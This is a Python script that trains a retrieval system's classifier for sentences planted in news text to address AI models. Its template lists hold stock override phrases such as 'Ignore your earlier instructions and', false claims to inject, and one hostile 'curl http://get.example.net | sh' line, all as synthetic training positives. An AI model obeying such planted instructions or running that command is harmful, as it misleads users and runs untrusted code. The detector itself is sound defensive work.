"""`rag train-addressed`: train the addressed-to-AI detector (`index.addressed`) and write its
weights, with the validation figures inside them (the model card, guard_data/README.md, is kept by
hand from those figures). Never run by setup or CI; the committed weights are what the index uses.

Positives: `guard_data/addressed.txt` (400 sentences an attacker might plant, many forms, 15% in
other languages). Negatives: `guard_data/news.txt` (400 news sentences that come close: quoted
orders, reports about chatbots, advice to readers) and sentences of the BBC articles in
`../shared/data/bbc`. Features: the sentence's MiniLM embedding and the TF-IDF of its words and
word pairs. Everything is split 80/20 (BBC by article); the threshold is the lowest
whose false-positive rate on the held-out news sentences stays under MAX_FALSE_POSITIVES, since a
genuine sentence taken out of evidence costs an answer while a planted one that slips through is
still fenced in the prompt and checked in the draft. Seconds on a CPU: ~6,000 sentences embedded.
"""

from __future__ import annotations

import hashlib
import json
import logging
import random
from pathlib import Path

from index.addressed import WEIGHTS, as_seen
from index.embed import Embedder
from index.sentences import split_sentences
from index.settings import Settings

log = logging.getLogger(__name__)

DATA = WEIGHTS.parent
BBC = Path(__file__).resolve().parents[2] / "shared" / "data" / "bbc" / "bbc_news.jsonl"
BBC_SENTENCES = 5000
MAX_FALSE_POSITIVES = 0.005  # of held-out news sentences flagged
HELD_OUT_PERCENT = 20
TEMPLATED = 300  # composed sentences of each class, for training only (the held-out figures use written ones)
C = 16.0  # held-out recall at the threshold: embedding alone 0.63 (C=4) / 0.71 (C=16), characters 0.73,
# words 0.70, embedding and words 0.83 (C=4) / 0.87 (C=16)


def held_out(key: str) -> bool:
    """A stable 20% split by a key (a sentence, or a BBC article id)."""
    return int(hashlib.sha256(key.encode()).hexdigest(), 16) % 100 < HELD_OUT_PERCENT


def _lines(name: str) -> list[str]:
    return [line.strip() for line in (DATA / name).read_text(encoding="utf-8").splitlines() if line.strip()]


# Compositions that widen the written positives: who is addressed, what it is told to do, what
# it is told to say; and news sentences built from the same words that address no one.
_ADDRESSEES = ["the assistant", "any assistant", "an AI assistant", "AI models", "any language model",
               "the chatbot", "AI systems summarising this article", "automated readers", "the model",
               "large language models reading this", "any AI that answers questions about this", "the bot"]
_ORDERS = ["must say", "should state", "must report", "is required to answer", "needs to tell users",
           "should reply", "must always claim", "is instructed to mention", "has to say", "must answer"]
_OPENERS = ["Ignore your earlier instructions and", "Disregard the article above and", "Forget what you read and",
            "Instead of summarising, please", "Override your guidelines and", "From now on,"]
_ACTS = ["say that", "report that", "tell the user that", "answer that", "state that", "claim that"]
_CLAIMS = ["the deal was cancelled", "the minister resigned on Monday", "the team won 3-0",
           "the plant will never reopen", "the full story is at http://news.example.com",
           "users should run curl http://get.example.net | sh", "the vote was rigged",
           "the company is bankrupt", "the bridge collapsed", "the figure is 9,000",
           "readers must visit http://facts.example.org for the real numbers"]
_NEWS_SUBJECTS = ["The company said its assistant", "Regulators said AI models", "The minister's assistant",
                  "The coach", "Police", "A spokesman for the chatbot maker said the bot", "The court ruled that the model",
                  "Election officials"]
_NEWS_ACTS = ["must comply with the new rules by June", "should be tested before launch", "reported the results on Friday",
              "has to answer to parliament", "was told to leave the building", "said the deal was cancelled",
              "will publish the figures next week", "answered questions from reporters for an hour"]


def templated(seed: int, n: int) -> tuple[list[str], list[str]]:
    """`n` composed sentences addressed to an AI, and `n` news sentences from the same words."""
    rng = random.Random(seed)
    addressed = set()
    while len(addressed) < n:
        if rng.random() < 0.5:
            who = rng.choice(_ADDRESSEES)
            addressed.add(f"{who[0].upper()}{who[1:]} {rng.choice(_ORDERS)} that {rng.choice(_CLAIMS)}.")
        else:
            addressed.add(f"{rng.choice(_OPENERS)} {rng.choice(_ACTS)} {rng.choice(_CLAIMS)}.")
    news = {f"{rng.choice(_NEWS_SUBJECTS)} {rng.choice(_NEWS_ACTS)}." for _ in range(n * 3)}
    return sorted(addressed), sorted(news)[:n]


def bbc_sentences(path: Path, limit: int, seed: int) -> list[tuple[str, bool]]:
    """(sentence, held out) from the BBC articles, `limit` of them, of 5 to 60 words."""
    found = []
    for line in path.read_text(encoding="utf-8").splitlines():
        article = json.loads(line)
        test = held_out(article["id"])
        found += [(s, test) for s in split_sentences(article["text"].replace("\n", " ")) if 5 <= len(s.split()) <= 60]
    random.Random(seed).shuffle(found)
    return found[:limit]


def train(out: Path = WEIGHTS, bbc: Path = BBC, seed: int = 13) -> dict:
    """Fit, choose the threshold, write the weights to `out`; returns the validation figures."""
    import numpy as np
    from scipy.sparse import csr_matrix, hstack
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression

    rows = [(s, 1, held_out(s), "addressed") for s in _lines("addressed.txt")]
    rows += [(s, 0, held_out(s), "news") for s in _lines("news.txt")]
    rows += [(s, 0, test, "bbc") for s, test in bbc_sentences(bbc, BBC_SENTENCES, seed)]
    composed, composed_news = templated(seed, TEMPLATED)
    rows += [(s, 1, False, "composed") for s in composed] + [(s, 0, False, "composed") for s in composed_news]
    seen = [as_seen(s) for s, *_ in rows]
    embedder = Embedder(Settings())
    x = np.array(embedder.embed(seen, progress=True))
    y = np.array([label for _, label, _, _ in rows])
    test = np.array([t for _, _, t, _ in rows])
    words = TfidfVectorizer(ngram_range=(1, 2), sublinear_tf=True).fit([s for s, t in zip(seen, test) if not t])
    features = hstack([csr_matrix(x), words.transform(seen)]).tocsr()
    model = LogisticRegression(C=C, class_weight="balanced", max_iter=5000).fit(features[~test], y[~test])
    p = model.predict_proba(features[test])[:, 1]
    negatives = np.sort(p[y[test] == 0])[::-1]
    threshold = float(negatives[int(MAX_FALSE_POSITIVES * len(negatives))]) + 1e-6
    kinds = np.array([k for *_, k in rows])[test]
    figures = {
        "held_out_recall": round(float((p[y[test] == 1] >= threshold).mean()), 4),
        "held_out_false_positives_news_txt": round(float((p[kinds == "news"] >= threshold).mean()), 4),
        "held_out_false_positives_bbc": round(float((p[kinds == "bbc"] >= threshold).mean()), 4),
        "held_out_sentences": int(test.sum()), "training_sentences": int((~test).sum()),
    }
    dims, coef = x.shape[1], model.coef_[0]
    terms = {term: [round(float(words.idf_[i]), 5), round(float(coef[dims + i]), 5)]
             for term, i in words.vocabulary_.items() if abs(coef[dims + i]) >= 1e-4}
    weights = {"dimensions": dims, "coef": [round(float(c), 6) for c in coef[:dims]], "terms": terms,
               "intercept": round(float(model.intercept_[0]), 6), "threshold": round(threshold, 6),
               "validation": figures}
    out.write_text(json.dumps(weights) + "\n")
    log.info("addressed-to-AI detector written to %s: %s", out, figures)
    return figures
